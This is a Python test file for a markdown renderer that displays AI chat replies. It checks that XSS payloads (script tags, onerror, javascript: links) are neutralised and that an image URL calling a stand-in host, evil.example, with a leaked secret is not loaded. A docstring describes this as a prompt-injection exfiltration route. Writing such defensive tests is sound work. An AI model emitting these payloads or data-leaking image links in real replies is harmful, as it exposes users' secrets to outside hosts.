from playground.rendering import render_markdown


def test_markdown_is_rendered_and_code_highlighted():
    html = render_markdown(
        "**bold** and a list:\n\n- one\n- two\n\n```python\ndef f():\n    return 1\n```"
    )
    assert "<strong>bold</strong>" in html and "<li>one</li>" in html
    assert 'class="highlight"' in html and '<span class="k">def</span>' in html


def test_html_in_a_reply_is_neutralised():
    html = render_markdown(
        '<script>alert(1)</script><img src=x onerror="alert(2)"> [x](javascript:alert(3))'
    )
    assert "<script" not in html and "onerror" not in html and "javascript:" not in html


def test_a_reply_cannot_make_the_browser_fetch_from_another_host():
    """A prompt injection's way out: ![x](https://evil.example/?leak=SECRET) would load at once."""
    html = render_markdown(
        '![chart](https://evil.example/c.png?leak=SECRET) and <img src="https://evil.example/x"> '
        "too"
    )
    assert "<img" not in html
    assert '<a href="https://evil.example/c.png?leak=SECRET"' in html and "🖼 chart</a> and" in html
    assert html.rstrip().endswith("too</p>")  # the text around an image is kept


def test_links_open_apart_with_no_opener_or_referrer():
    html = render_markdown("[docs](https://docs.bigmodel.cn/)")
    assert 'href="https://docs.bigmodel.cn/"' in html and 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
